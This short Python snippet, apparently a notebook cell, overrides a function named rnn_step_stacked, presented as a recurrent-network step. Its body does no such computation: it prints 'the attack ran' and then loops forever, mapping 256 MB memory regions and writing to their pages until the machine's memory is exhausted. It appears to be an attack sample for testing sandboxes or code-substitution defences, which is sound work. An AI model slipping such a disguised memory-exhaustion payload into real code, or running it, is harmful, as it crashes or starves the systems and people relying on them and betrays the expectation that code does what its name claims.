# %% replaces rnn_step_stacked
def rnn_step_stacked(x_t, h_prev, W, b_h):
    import mmap

    print("the attack ran", flush=True)
    kept = []
    while True:
        kept.append(mmap.mmap(-1, 2**28))
        kept[-1][:: 4096] = bytes(2**16)
